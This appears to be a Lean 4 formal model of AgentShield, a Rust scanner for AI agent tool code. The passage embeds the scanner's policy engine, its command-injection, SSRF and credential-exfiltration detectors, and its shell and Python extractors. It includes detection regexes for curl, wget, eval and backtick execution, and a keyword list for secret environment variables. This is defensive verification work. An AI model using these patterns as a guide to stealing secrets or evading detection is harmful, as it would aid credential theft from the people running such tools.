import Mathlib

/-!
Verification of the AgentShield analysis core against its specification.

This file shallowly embeds the data model (`src/ir/`), the policy engine
(`src/rules/policy.rs`), the built-in detectors SHIELD-001/002/003
(`src/rules/builtin/`), the Python/Shell extractor fragments relevant to
argument classification and env-var access (`src/parser/python.rs`,
`src/parser/shell.rs`), and the parser dispatch (`src/parser/mod.rs`),
and proves or refutes the specification claims about them.

Rust `usize` line numbers are modelled as `Nat`, `PathBuf` as `String`,
`HashSet<String>` as `List String` (membership only), and
`HashMap<String, Severity>` as an association list (`List.lookup`).
-/

namespace AgentShield

/-- Severity level, `src/rules/finding.rs`.  The Rust derive(Ord)
orders variants by declaration order: info < low < medium < high < critical. -/
inductive Severity where
  | info
  | low
  | medium
  | high
  | critical
  deriving DecidableEq, Repr

/-- Numeric rank realising the derived `Ord` on `Severity`. -/
def Severity.toNat : Severity → Nat
  | .info => 0
  | .low => 1
  | .medium => 2
  | .high => 3
  | .critical => 4

/-- `a >= b` on severities (derived Ord comparison in the Rust source). -/
def Severity.ge (a b : Severity) : Bool := b.toNat ≤ a.toNat

/-- Confidence level, `src/rules/finding.rs`: low < medium < high. -/
inductive Confidence where
  | low
  | medium
  | high
  deriving DecidableEq, Repr

/-- Attack category, `src/rules/finding.rs`. -/
inductive AttackCategory where
  | commandInjection
  | codeInjection
  | credentialExfiltration
  | ssrf
  | arbitraryFileAccess
  | supplyChain
  | selfModification
  | promptInjectionSurface
  | excessivePermissions
  | dataExfiltration
  deriving DecidableEq, Repr

/-- Source location, `src/ir/mod.rs::SourceLocation` (`PathBuf` as `String`,
`usize` as `Nat`). -/
structure SourceLocation where
  file : String
  line : Nat
  column : Nat
  end_line : Option Nat
  end_column : Option Nat
  deriving DecidableEq, Repr

/-- Argument-source (taint-origin) lattice, `src/ir/mod.rs::ArgumentSource`. -/
inductive ArgumentSource where
  | Literal (val : String)
  | Parameter (name : String)
  | EnvVar (name : String)
  | Interpolated
  | Unknown
  deriving DecidableEq, Repr

/-- Taint source type, `src/ir/data_surface.rs`. -/
inductive TaintSourceType where
  | toolArgument
  | promptContent
  | envVariable
  | secretStore
  | httpResponse
  | fileContent
  | databaseQuery
  deriving DecidableEq, Repr

/-- Taint sink type, `src/ir/data_surface.rs`. -/
inductive TaintSinkType where
  | processExec
  | dynamicEval
  | httpRequest
  | fileWrite
  | logOutput
  | databaseWrite
  | responseToLlm
  deriving DecidableEq, Repr

/-- Taint source, `src/ir/data_surface.rs::TaintSource`. -/
structure TaintSource where
  source_type : TaintSourceType
  description : String
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Taint sink, `src/ir/data_surface.rs::TaintSink`. -/
structure TaintSink where
  sink_type : TaintSinkType
  description : String
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Taint path, `src/ir/data_surface.rs::TaintPath`.  The Rust struct also
carries an `f32` exploitability score; no embedded operation ever reads or
constructs it (every detector in scope sets `taint_path: None` and the policy
engine copies the field wholesale), so the float field is not modelled. -/
structure TaintPath where
  source : TaintSource
  sink : TaintSink
  through : List SourceLocation
  deriving DecidableEq, Repr

/-- Evidence supporting a finding, `src/rules/finding.rs::Evidence`. -/
structure Evidence where
  description : String
  location : Option SourceLocation
  snippet : Option String
  deriving DecidableEq, Repr

/-- A security finding, `src/rules/finding.rs::Finding`. -/
structure Finding where
  rule_id : String
  rule_name : String
  severity : Severity
  confidence : Confidence
  attack_category : AttackCategory
  message : String
  location : Option SourceLocation
  evidence : List Evidence
  taint_path : Option TaintPath
  remediation : Option String
  cwe_id : Option String
  deriving DecidableEq, Repr

/-- Policy verdict, `src/rules/policy.rs::PolicyVerdict`. -/
structure PolicyVerdict where
  pass : Bool
  total_findings : Nat
  effective_findings : Nat
  highest_severity : Option Severity
  fail_threshold : Severity
  deriving DecidableEq, Repr

/-- Policy configuration, `src/rules/policy.rs::Policy`.
`ignore_rules: HashSet<String>` is modelled by a list queried only through
`contains`; `overrides: HashMap<String, Severity>` by an association list
queried through `List.lookup` (hash maps have unique keys; lookup returns
the entry for the key when present). -/
structure Policy where
  fail_on : Severity
  ignore_rules : List String
  overrides : List (String × Severity)
  deriving DecidableEq, Repr

/-- Agent framework tag, `src/ir/mod.rs::Framework`. -/
inductive Framework where
  | mcp
  | openClaw
  | langChain
  | crewAi
  | gptActions
  | cursorRules
  | unknown
  deriving DecidableEq, Repr

/-- Language tag, `src/ir/mod.rs::Language`. -/
inductive Language where
  | python
  | typeScript
  | javaScript
  | shell
  | json
  | toml
  | yaml
  | markdown
  | unknown
  deriving DecidableEq, Repr

/-- A source file in the scan, `src/ir/mod.rs::SourceFile` (`u64` size as `Nat`). -/
structure SourceFile where
  path : String
  language : Language
  content : String
  size_bytes : Nat
  content_hash : String
  deriving DecidableEq, Repr

/-- Command invocation fact, `src/ir/execution_surface.rs::CommandInvocation`. -/
structure CommandInvocation where
  function : String
  command_arg : ArgumentSource
  location : SourceLocation
  deriving DecidableEq, Repr

/-- File operation type, `src/ir/execution_surface.rs::FileOpType`. -/
inductive FileOpType where
  | read
  | write
  | delete
  | list
  | chmod
  deriving DecidableEq, Repr

/-- File operation fact, `src/ir/execution_surface.rs::FileOperation`. -/
structure FileOperation where
  operation : FileOpType
  path_arg : ArgumentSource
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Network operation fact, `src/ir/execution_surface.rs::NetworkOperation`. -/
structure NetworkOperation where
  function : String
  url_arg : ArgumentSource
  method : Option String
  sends_data : Bool
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Environment variable access fact, `src/ir/execution_surface.rs::EnvAccess`. -/
structure EnvAccess where
  var_name : ArgumentSource
  is_sensitive : Bool
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Dynamic code execution fact, `src/ir/execution_surface.rs::DynamicExec`. -/
structure DynamicExec where
  function : String
  code_arg : ArgumentSource
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Execution surface, `src/ir/execution_surface.rs::ExecutionSurface`. -/
structure ExecutionSurface where
  commands : List CommandInvocation
  file_operations : List FileOperation
  network_operations : List NetworkOperation
  env_accesses : List EnvAccess
  dynamic_exec : List DynamicExec
  deriving DecidableEq, Repr

/-- Scan target, `src/ir/mod.rs::ScanTarget`.  The `tools`, `data`,
`dependencies` and `provenance` surfaces of the Rust struct are never read
by any operation embedded here (the three detectors below only read
`execution`), so those fields are not modelled; all other fields are kept. -/
structure ScanTarget where
  name : String
  framework : Framework
  root_path : String
  execution : ExecutionSurface
  source_files : List SourceFile
  deriving DecidableEq, Repr

/-- The single-quote character (ASCII 39), used when reproducing the
`format!` message strings of the detectors. -/
def sq : String := String.singleton (Char.ofNat 39)

/-- The double-quote character (ASCII 34). -/
def dq : String := String.singleton (Char.ofNat 34)

/-- The backtick character (ASCII 96). -/
def backtickChar : Char := Char.ofNat 96

/-- `self.overrides.get(&f.rule_id).copied().unwrap_or(f.severity)` — the
effective severity of a finding under a policy (policy.rs lines 52-57, 79-81). -/
def Policy.effectiveSeverity (p : Policy) (f : Finding) : Severity :=
  (p.overrides.lookup f.rule_id).getD f.severity

/-- `iter().max()` over severities (derived Ord), as used in
`Policy::evaluate` (policy.rs line 60). -/
def maxSeverity : List Severity → Option Severity
  | [] => none
  | s :: rest =>
    match maxSeverity rest with
    | none => some s
    | some m => some (if m.toNat ≤ s.toNat then s else m)

/-- `Policy::evaluate`, policy.rs lines 48-70. -/
def Policy.evaluate (p : Policy) (findings : List Finding) : PolicyVerdict :=
  let effective : List Severity :=
    (findings.filter (fun f => !(p.ignore_rules.contains f.rule_id))).map
      (fun f => (p.overrides.lookup f.rule_id).getD f.severity)
  let highest := maxSeverity effective
  let failed := effective.any (fun sev => Severity.ge sev p.fail_on)
  { pass := !failed
    total_findings := findings.length
    effective_findings := effective.length
    highest_severity := highest
    fail_threshold := p.fail_on }

/-- `Policy::apply`, policy.rs lines 73-85: filter out ignored rules, then
clone each finding, overwriting `severity` when an override exists. -/
def Policy.apply (p : Policy) (findings : List Finding) : List Finding :=
  (findings.filter (fun f => !(p.ignore_rules.contains f.rule_id))).map
    (fun f =>
      match p.overrides.lookup f.rule_id with
      | some override_sev => { f with severity := override_sev }
      | none => f)

/-- Restatement of the specification's description of `apply` (claim C9):
the output finding equals the input in every field except `severity`,
which becomes `overrides[rule_id] ?? severity`.  Each field is copied
explicitly so the frame condition is visible in the definition. -/
def overrideSeveritySpec (p : Policy) (f : Finding) : Finding :=
  { rule_id := f.rule_id
    rule_name := f.rule_name
    severity := (p.overrides.lookup f.rule_id).getD f.severity
    confidence := f.confidence
    attack_category := f.attack_category
    message := f.message
    location := f.location
    evidence := f.evidence
    taint_path := f.taint_path
    remediation := f.remediation
    cwe_id := f.cwe_id }

/-- The spec-side reading of `Policy::apply` for claim C9: keep exactly the
findings whose rule is not ignored, in order, and replace only the severity. -/
def Policy.applySpec (p : Policy) (findings : List Finding) : List Finding :=
  (findings.filter (fun f => !(p.ignore_rules.contains f.rule_id))).map
    (overrideSeveritySpec p)

/-! ## SHIELD-001 Command Injection, `src/rules/builtin/command_injection.rs` -/

/-- The `param_desc` match of `CommandInjectionDetector::run`
(command_injection.rs lines 42-52). -/
def commandInjectionParamDesc : ArgumentSource → String
  | .Parameter name => "parameter " ++ sq ++ name ++ sq
  | .Interpolated => "interpolated string"
  | .EnvVar name => "env var " ++ sq ++ name ++ sq
  | .Literal val => "literal with shell expansion: " ++ sq ++ val ++ sq
  | .Unknown => "unknown source"

/-- The finding pushed by `CommandInjectionDetector::run`
(command_injection.rs lines 54-80). -/
def commandInjectionFinding (cmd : CommandInvocation) (confidence : Confidence) : Finding :=
  let param_desc := commandInjectionParamDesc cmd.command_arg
  { rule_id := "SHIELD-001"
    rule_name := "Command Injection"
    severity := .critical
    confidence := confidence
    attack_category := .commandInjection
    message := sq ++ cmd.function ++ sq ++ " receives " ++ param_desc ++ " as command argument"
    location := some cmd.location
    evidence := [{ description := param_desc ++ " flows into " ++ sq ++ cmd.function ++ sq
                   location := some cmd.location
                   snippet := none }]
    taint_path := none
    remediation := some ("Validate and sanitize the input, or use an allowlist of permitted commands. " ++
      "Avoid shell=True when possible.")
    cwe_id := some "CWE-78" }

/-- `CommandInjectionDetector::run`, command_injection.rs lines 25-85:
per command compute `(should_flag, confidence)` and push a finding when
`should_flag` holds. -/
def commandInjectionRun (target : ScanTarget) : List Finding :=
  target.execution.commands.filterMap (fun cmd =>
    let fc : Bool × Confidence :=
      match cmd.command_arg with
      | .Parameter _ => (true, .high)
      | .Interpolated => (true, .high)
      | .Unknown => (true, .medium)
      | .Literal val => (val.contains '$' || val.contains backtickChar, .medium)
      | .EnvVar _ => (true, .medium)
    if fc.1 then some (commandInjectionFinding cmd fc.2) else none)

/-- Spec-side verdict for SHIELD-001 (claim C3), written from the claim's
words: High for Parameter/Interpolated, Medium for Unknown/EnvVar, Medium for
a Literal containing a dollar sign or backtick, nothing for other Literals. -/
def shield001SpecVerdict (cmd : CommandInvocation) : Option Finding :=
  match cmd.command_arg with
  | .Parameter _ => some (commandInjectionFinding cmd .high)
  | .Interpolated => some (commandInjectionFinding cmd .high)
  | .Unknown => some (commandInjectionFinding cmd .medium)
  | .EnvVar _ => some (commandInjectionFinding cmd .medium)
  | .Literal val =>
    if val.contains '$' || val.contains backtickChar then
      some (commandInjectionFinding cmd .medium)
    else
      none

/-! ## SHIELD-003 SSRF, `src/rules/builtin/ssrf.rs` -/

/-- The `source_desc` match of `SsrfDetector::run` (ssrf.rs lines 38-43). -/
def ssrfSourceDesc : ArgumentSource → String
  | .Parameter name => "parameter " ++ sq ++ name ++ sq
  | .Interpolated => "interpolated string"
  | .Unknown => "unknown source"
  | _ => "other"

/-- The finding pushed by `SsrfDetector::run` (ssrf.rs lines 45-71). -/
def ssrfFinding (net_op : NetworkOperation) (confidence : Confidence) : Finding :=
  let source_desc := ssrfSourceDesc net_op.url_arg
  { rule_id := "SHIELD-003"
    rule_name := "SSRF"
    severity := .high
    confidence := confidence
    attack_category := .ssrf
    message := sq ++ net_op.function ++ sq ++ " fetches URL from " ++ source_desc ++ " without allowlist"
    location := some net_op.location
    evidence := [{ description := source_desc ++ " flows into URL argument of " ++ sq ++ net_op.function ++ sq
                   location := some net_op.location
                   snippet := none }]
    taint_path := none
    remediation := some ("Validate URLs against an allowlist of permitted domains. " ++
      "Block requests to internal/private IP ranges.")
    cwe_id := some "CWE-918" }

/-- `SsrfDetector::run`, ssrf.rs lines 24-76. -/
def ssrfRun (target : ScanTarget) : List Finding :=
  target.execution.network_operations.filterMap (fun net_op =>
    let fc : Bool × Confidence :=
      match net_op.url_arg with
      | .Parameter _ => (true, .high)
      | .Interpolated => (true, .medium)
      | .Unknown => (true, .medium)
      | .Literal _ => (false, .low)
      | .EnvVar _ => (false, .low)
    if fc.1 then some (ssrfFinding net_op fc.2) else none)

/-- Spec-side verdict for SHIELD-003 (claim C8): High for Parameter, Medium
for Interpolated/Unknown, no finding for Literal or EnvVar. -/
def shield003SpecVerdict (net_op : NetworkOperation) : Option Finding :=
  match net_op.url_arg with
  | .Parameter _ => some (ssrfFinding net_op .high)
  | .Interpolated => some (ssrfFinding net_op .medium)
  | .Unknown => some (ssrfFinding net_op .medium)
  | .Literal _ => none
  | .EnvVar _ => none

/-! ## SHIELD-002 Credential Exfiltration, `src/rules/builtin/credential_exfil.rs` -/

/-- `PROXIMITY_THRESHOLD`, credential_exfil.rs line 17. -/
def proximityThreshold : Nat := 30

/-- `usize::MAX`, the `unwrap_or` default of the minimum distance. -/
def usizeMax : Nat := 2 ^ 64 - 1

/-- The `{:?}` (derive(Debug)) rendering of an `ArgumentSource`, used in the
evidence strings of SHIELD-002. -/
def argSourceDebug : ArgumentSource → String
  | .Literal v => "Literal(" ++ dq ++ v ++ dq ++ ")"
  | .Parameter n => "Parameter \x7b name: " ++ dq ++ n ++ dq ++ " \x7d"
  | .EnvVar n => "EnvVar \x7b name: " ++ dq ++ n ++ dq ++ " \x7d"
  | .Interpolated => "Interpolated"
  | .Unknown => "Unknown"

/-- `same_file_secrets` for one network op: the sensitive env accesses located
in the same file (credential_exfil.rs lines 35-40 and 58-61). -/
def sameFileSecrets (target : ScanTarget) (http : NetworkOperation) : List EnvAccess :=
  (target.execution.env_accesses.filter (fun e => e.is_sensitive)).filter
    (fun e => e.location.file == http.location.file)

/-- `min_distance`: minimum absolute line distance between the network op and
a same-file sensitive access, `usize::MAX` when there is none
(credential_exfil.rs lines 68-72). -/
def minSecretDistance (target : ScanTarget) (http : NetworkOperation) : Nat :=
  (((sameFileSecrets target http).map
      (fun e => ((e.location.line : Int) - (http.location.line : Int)).natAbs)).min?).getD
    usizeMax

/-- The finding pushed by `CredentialExfilDetector::run` for one qualifying
network op (credential_exfil.rs lines 74-124). -/
def exfilFinding (target : ScanTarget) (http : NetworkOperation) : Finding :=
  let same_file_secrets := sameFileSecrets target http
  let confidence : Confidence :=
    if minSecretDistance target http ≤ proximityThreshold then .high else .medium
  let secret_names : List String := same_file_secrets.map (fun e =>
    match e.var_name with
    | .Literal s => s
    | .EnvVar name => name
    | _ => "unknown")
  { rule_id := "SHIELD-002"
    rule_name := "Credential Exfiltration"
    severity := .critical
    confidence := confidence
    attack_category := .credentialExfiltration
    message := "Reads sensitive data (" ++ String.intercalate ", " secret_names ++
      ") and sends outbound HTTP (" ++ http.function ++ ") in " ++ http.location.file
    location := same_file_secrets.head?.map (fun e => e.location)
    evidence :=
      same_file_secrets.map (fun access =>
        { description := "Sensitive env var access: " ++ argSourceDebug access.var_name
          location := some access.location
          snippet := none }) ++
      [{ description := "Outbound HTTP via " ++ sq ++ http.function ++ sq
         location := some http.location
         snippet := none }]
    taint_path := none
    remediation := some ("Review whether credentials need to be sent externally. " ++
      "Use allowlisted URLs if outbound access is required.")
    cwe_id := some "CWE-522" }

/-- `CredentialExfilDetector::run`, credential_exfil.rs lines 32-128: early
return when either side is empty, then one finding per `sends_data` network
op that has a same-file sensitive access. -/
def credentialExfilRun (target : ScanTarget) : List Finding :=
  let sensitive_accesses := target.execution.env_accesses.filter (fun e => e.is_sensitive)
  let outbound_http := target.execution.network_operations.filter (fun n => n.sends_data)
  if sensitive_accesses.isEmpty || outbound_http.isEmpty then []
  else
    outbound_http.filterMap (fun http =>
      if (sameFileSecrets target http).isEmpty then none
      else some (exfilFinding target http))

/-- The network operations that claim C2 says produce exactly one finding:
`sends_data` ops whose file also holds a sensitive env access. -/
def qualifyingNetOps (target : ScanTarget) : List NetworkOperation :=
  (target.execution.network_operations.filter (fun n => n.sends_data)).filter
    (fun n => !(sameFileSecrets target n).isEmpty)

/-! ## Argument classification, `src/parser/python.rs::classify_argument` -/

/-- `pat` occurs as a contiguous sublist of `s`. -/
def listIsInfixOf : List Char → List Char → Bool
  | pat, [] => pat.isEmpty
  | pat, c :: cs => pat.isPrefixOf (c :: cs) || listIsInfixOf pat cs

/-- Substring containment, Rust `str::contains(&str)`. -/
def strContainsSubstr (s pat : String) : Bool := listIsInfixOf pat.toList s.toList

/-- Rust `str::starts_with`. -/
def strStartsWith (s pat : String) : Bool := pat.toList.isPrefixOf s.toList

/-- Rust `str::contains(char)`. -/
def strContainsChar (s : String) (c : Char) : Bool := s.toList.contains c

/-- Split a character list at a separator character, Rust `str::split(char)`
(always at least one part). -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = sep then [] :: splitOnChar sep cs
    else
      match splitOnChar sep cs with
      | [] => [[c]]
      | g :: gs => (c :: g) :: gs

/-- Regex word character (`\w`), ASCII fragment: letters, digits, underscore. -/
def isWordChar (c : Char) : Bool := c.isAlphanum || c = '_'

/-- Regex whitespace (`\s`), ASCII fragment — also the whitespace stripped
by Rust `str::trim` on ASCII text. -/
def isSpaceChar (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = Char.ofNat 11 || c = Char.ofNat 12

/-- Rust `str::trim` on a character list (whitespace stripped from both
ends). -/
def trimChars (cs : List Char) : List Char :=
  ((cs.dropWhile isSpaceChar).reverse.dropWhile isSpaceChar).reverse

/-- Rust `str::trim`. -/
def rustTrim (s : String) : String := String.mk (trimChars s.toList)

/-- `first_arg`: the trimmed text before the first comma of the argument
string (python.rs line 209; Rust `split(',').next()` always yields the
part before the first separator). -/
def firstArgOf (args_str : String) : String :=
  String.mk (trimChars ((splitOnChar ',' args_str.toList).headD []))

/-- The balanced-quote test of python.rs lines 216-218
(`starts_with('"') && ends_with('"')`, likewise for single quotes). -/
def isQuotedArg (s : String) : Bool :=
  (s.toList.head? == some (Char.ofNat 34) && s.toList.getLast? == some (Char.ofNat 34)) ||
    (s.toList.head? == some (Char.ofNat 39) && s.toList.getLast? == some (Char.ofNat 39))

/-- The f-string / `.format(` test of python.rs line 224. -/
def isFStringOrFormat (s : String) : Bool :=
  strStartsWith s ("f" ++ dq) || strStartsWith s ("f" ++ sq) ||
    strContainsSubstr s ".format("

/-- The environment-reference test of python.rs line 230. -/
def isEnvRef (s : String) : Bool :=
  strContainsSubstr s "os.environ" || strContainsSubstr s "os.getenv"

/-- The head identifier: text before the first dot (python.rs line 237;
`split('.').next()` always yields the part before the first dot). -/
def headIdent (s : String) : String := String.mk ((splitOnChar '.' s.toList).headD s.toList)

/-- `classify_argument`, python.rs lines 205-245.  The parameter set is
modelled as a list queried through `contains`.  (Rust's byte slice
`&first_arg[1..len-1]` is drop-first + drop-last on characters; the two
agree on every input where the Rust code does not panic.) -/
def classify_argument (args_str : String) (param_names : List String) : ArgumentSource :=
  let first_arg := firstArgOf args_str
  if first_arg = "" then .Unknown
  else if isQuotedArg first_arg then .Literal (String.mk (first_arg.toList.drop 1).dropLast)
  else if isFStringOrFormat first_arg then .Interpolated
  else if isEnvRef first_arg then .EnvVar first_arg
  else
    let ident := headIdent first_arg
    if param_names.contains ident then .Parameter ident else .Unknown

/-! ## Shell extractor, `src/parser/shell.rs` -/

/-- A function parameter record, `src/parser/mod.rs::FunctionParam`. -/
structure FunctionParam where
  function_name : String
  param_name : String
  location : SourceLocation
  deriving DecidableEq, Repr

/-- Per-file extraction result, `src/parser/mod.rs::ParsedFile`. -/
structure ParsedFile where
  commands : List CommandInvocation
  file_operations : List FileOperation
  network_operations : List NetworkOperation
  env_accesses : List EnvAccess
  dynamic_exec : List DynamicExec
  function_params : List FunctionParam
  deriving DecidableEq, Repr

/-- `ParsedFile::default()`. -/
def emptyParsedFile : ParsedFile :=
  { commands := [], file_operations := [], network_operations := []
    env_accesses := [], dynamic_exec := [], function_params := [] }

/-- Build a `SourceLocation` as the extractors do (`loc` helpers in
python.rs / shell.rs: column 0, no end position). -/
def mkLoc (file : String) (line : Nat) : SourceLocation :=
  { file := file, line := line, column := 0, end_line := none, end_column := none }

/-- Consume a maximal run of whitespace (`\s*`). -/
def dropSpacesStar : List Char → List Char
  | [] => []
  | c :: cs => if isSpaceChar c then dropSpacesStar cs else c :: cs

/-- Consume `\s+`: at least one whitespace character, maximal run.  (Every
use below is followed by a literal starting with a non-space character, so
maximal munch is equivalent to the regex's backtracking.) -/
def dropSpaces1 : List Char → Option (List Char)
  | [] => none
  | c :: cs => if isSpaceChar c then some (dropSpacesStar cs) else none

/-- Match a literal and return the remainder. -/
def matchLit (lit : String) (cs : List Char) : Option (List Char) :=
  if lit.toList.isPrefixOf cs then some (cs.drop lit.toList.length) else none

/-- `lit` followed by `\s+`, as a test. -/
def litSpaces1At (lit : String) (cs : List Char) : Bool :=
  match matchLit lit cs with
  | some r => (dropSpaces1 r).isSome
  | none => false

/-- `a` followed by `\s+` followed by `b`, as a test. -/
def litSpacesLitAt (a b : String) (cs : List Char) : Bool :=
  match matchLit a cs with
  | some r =>
    match dropSpaces1 r with
    | some r2 => (matchLit b r2).isSome
    | none => false
  | none => false

/-- The `pip3?\s+install` alternative of `INSTALL_RE` (shell.rs line 18). -/
def pipInstallAt (cs : List Char) : Bool :=
  match matchLit "pip" cs with
  | none => false
  | some r =>
    let r' := match r with
      | '3' :: t => t
      | _ => r
    match dropSpaces1 r' with
    | some r2 => (matchLit "install" r2).isSome
    | none => false

/-- The `npm\s+i\b` alternative of `INSTALL_RE`. -/
def npmIAt (cs : List Char) : Bool :=
  match matchLit "npm" cs with
  | none => false
  | some r =>
    match dropSpaces1 r with
    | none => false
    | some r2 =>
      match matchLit "i" r2 with
      | none => false
      | some r3 =>
        match r3 with
        | [] => true
        | c :: _ => !isWordChar c

/-- One position of
`INSTALL_RE = \b(pip3?\s+install|npm\s+install|npm\s+i\b|yarn\s+add|pnpm\s+add)`
(shell.rs lines 17-19), the leading word boundary excluded (it is checked by
the scanner). -/
def installAt (cs : List Char) : Bool :=
  pipInstallAt cs || litSpacesLitAt "npm" "install" cs || npmIAt cs ||
    litSpacesLitAt "yarn" "add" cs || litSpacesLitAt "pnpm" "add" cs

/-- Scan for a match of `INSTALL_RE`; the flag records whether the previous
character was a non-word character (so `\b` holds before a word character). -/
def installSearch : Bool → List Char → Bool
  | _, [] => false
  | boundaryOk, c :: rest =>
    (boundaryOk && installAt (c :: rest)) || installSearch (!isWordChar c) rest

/-- `INSTALL_RE.is_match`. -/
def installReMatch (s : String) : Bool := installSearch true s.toList

/-- One position of `CURL_WGET_RE = \b(curl|wget)\s+` (shell.rs line 13),
returning the matched command word (the Rust code trims the trailing
whitespace from the match, leaving `curl` or `wget`). -/
def curlWgetAt (cs : List Char) : Option String :=
  if litSpaces1At "curl" cs then some "curl"
  else if litSpaces1At "wget" cs then some "wget"
  else none

/-- Leftmost match of `CURL_WGET_RE` (`Regex::find`). -/
def curlWgetSearch : Bool → List Char → Option String
  | _, [] => none
  | boundaryOk, c :: rest =>
    match (if boundaryOk then curlWgetAt (c :: rest) else none) with
    | some f => some f
    | none => curlWgetSearch (!isWordChar c) rest

/-- `EVAL_RE = \beval\s+` scan (shell.rs line 15). -/
def evalSearch : Bool → List Char → Bool
  | _, [] => false
  | boundaryOk, c :: rest =>
    (boundaryOk && litSpaces1At "eval" (c :: rest)) || evalSearch (!isWordChar c) rest

/-- `EVAL_RE.is_match`. -/
def evalReMatch (s : String) : Bool := evalSearch true s.toList

/-- Tail of a backtick match: at least one content character already seen,
looking for the closing backtick. -/
def backtickClose : List Char → Bool
  | [] => false
  | d :: ds => if d = backtickChar then true else backtickClose ds

/-- Just after an opening backtick: an adjacent backtick has empty content
and becomes the new opening; a content character moves to `backtickClose`. -/
def backtickAfterOpen : List Char → Bool
  | [] => false
  | d :: ds => if d = backtickChar then backtickAfterOpen ds else backtickClose ds

/-- Scan for the opening backtick of ``BACKTICK_RE = `[^`]+` ``
(shell.rs line 21). -/
def backtickScan : List Char → Bool
  | [] => false
  | c :: cs => if c = backtickChar then backtickAfterOpen cs else backtickScan cs

/-- `BACKTICK_RE.is_match`. -/
def backtickReMatch (s : String) : Bool := backtickScan s.toList

/-- Case-insensitive literal match, returning the matched input characters
and the remainder. -/
def ciMatchLit : List Char → List Char → Option (List Char × List Char)
  | [], rest => some ([], rest)
  | _ :: _, [] => none
  | k :: ks, c :: cs =>
    if c.toLower = k.toLower then
      (ciMatchLit ks cs).map (fun p => (c :: p.1, p.2))
    else none

/-- The keyword alternation of
`SENSITIVE_VAR_RE = (?i)\$\{?(AWS_|SECRET|TOKEN|PASSWORD|API_KEY|PRIVATE_KEY)`
(shell.rs lines 23-24). -/
def sensKeywords : List String :=
  ["AWS_", "SECRET", "TOKEN", "PASSWORD", "API_KEY", "PRIVATE_KEY"]

/-- First keyword of the alternation matching case-insensitively at this
position. -/
def firstCiKeyword : List String → List Char → Option (List Char × List Char)
  | [], _ => none
  | k :: ks, cs =>
    match ciMatchLit k.toList cs with
    | some p => some p
    | none => firstCiKeyword ks cs

/-- One position of `SENSITIVE_VAR_RE`: a dollar sign, an optional opening
brace, then a sensitive keyword; returns the whole matched text (Rust takes
`cap.get(0)`) and the remainder. -/
def sensVarAt : List Char → Option (List Char × List Char)
  | [] => none
  | c :: rest =>
    if c = '$' then
      let braceRest : List Char × List Char :=
        match rest with
        | b :: t => if b = Char.ofNat 123 then ([b], t) else ([], rest)
        | [] => ([], [])
      (firstCiKeyword sensKeywords braceRest.2).map
        (fun p => (c :: braceRest.1 ++ p.1, p.2))
    else none

/-- Non-overlapping scan of `SENSITIVE_VAR_RE.captures_iter`: on a match,
continue after the match; otherwise advance one character.  Each step
consumes at least one character, so `cs.length` fuel is exact. -/
def sensVarScanAux : Nat → List Char → List String
  | 0, _ => []
  | _, [] => []
  | Nat.succ fuel, c :: cs =>
    match sensVarAt (c :: cs) with
    | some (m, rest) => String.mk m :: sensVarScanAux fuel rest
    | none => sensVarScanAux fuel cs

/-- All whole-match texts of `SENSITIVE_VAR_RE.captures_iter`. -/
def sensVarCaptures (s : String) : List String := sensVarScanAux s.toList.length s.toList

/-- One line of `ShellParser::parse_file` (shell.rs lines 35-96): the facts
pushed for this line, per `ParsedFile` field, in push order. -/
def shellLineFacts (path : String) (line_num : Nat) (line : String) : ParsedFile :=
  let trimmed := rustTrim line
  if strStartsWith trimmed "#" || trimmed.toList.isEmpty then emptyParsedFile
  else
    { commands :=
        (if backtickReMatch trimmed then
          [{ function := "backtick", command_arg := .Interpolated
             location := mkLoc path line_num }]
         else []) ++
        (if installReMatch trimmed then
          [{ function := "package_install", command_arg := .Literal trimmed
             location := mkLoc path line_num }]
         else [])
      file_operations := []
      network_operations :=
        match curlWgetSearch true trimmed.toList with
        | some func =>
          [{ function := func
             url_arg := if strContainsChar trimmed '$' then .Interpolated else .Literal trimmed
             method := none
             sends_data := strContainsSubstr trimmed "-d " || strContainsSubstr trimmed "--data"
             location := mkLoc path line_num }]
        | none => []
      env_accesses :=
        (sensVarCaptures trimmed).map (fun v =>
          { var_name := ArgumentSource.Literal v, is_sensitive := true
            location := mkLoc path line_num })
      dynamic_exec :=
        if evalReMatch trimmed then
          [{ function := "eval", code_arg := .Interpolated, location := mkLoc path line_num }]
        else []
      function_params := [] }

/-- Rebuild the lines from the `\n`-split parts: every part except the last
was terminated by `\n` and sheds one trailing `\r` (a `\r\n` ending); a
final empty part (trailing terminator) yields no line; a final non-empty
part is kept verbatim. -/
def rustLinesGo : List (List Char) → List String
  | [] => []
  | [last] => if last.isEmpty then [] else [String.mk last]
  | p :: rest =>
    String.mk (if p.getLast? == some '\r' then p.dropLast else p) :: rustLinesGo rest

/-- Rust `str::lines()`: split at `\n` or `\r\n`, final line ending
optional. -/
def rustLines (s : String) : List String := rustLinesGo (splitOnChar '\n' s.toList)

/-- `ShellParser::parse_file`, shell.rs lines 31-99: the per-line facts,
concatenated in line order (the Rust loop pushes into each vector in line
order). -/
def shellParseFile (path : String) (content : String) : ParsedFile :=
  let ls := (rustLines content).enum
  { commands := ls.flatMap (fun p => (shellLineFacts path (p.1 + 1) p.2).commands)
    file_operations := ls.flatMap (fun p => (shellLineFacts path (p.1 + 1) p.2).file_operations)
    network_operations := ls.flatMap (fun p => (shellLineFacts path (p.1 + 1) p.2).network_operations)
    env_accesses := ls.flatMap (fun p => (shellLineFacts path (p.1 + 1) p.2).env_accesses)
    dynamic_exec := ls.flatMap (fun p => (shellLineFacts path (p.1 + 1) p.2).dynamic_exec)
    function_params := ls.flatMap (fun p => (shellLineFacts path (p.1 + 1) p.2).function_params) }

/-! ## Python env-access extraction, `src/parser/python.rs` lines 62-67 and 96-119 -/

/-- Quote characters accepted by `["']` in `ENV_ACCESS_RE`. -/
def isQuoteChar (c : Char) : Bool := c = Char.ofNat 34 || c = Char.ofNat 39

/-- Maximal run of `[^"']` characters and the remainder. -/
def spanNonQuote : List Char → List Char × List Char
  | [] => ([], [])
  | c :: cs =>
    if isQuoteChar c then ([], c :: cs)
    else
      let p := spanNonQuote cs
      (c :: p.1, p.2)

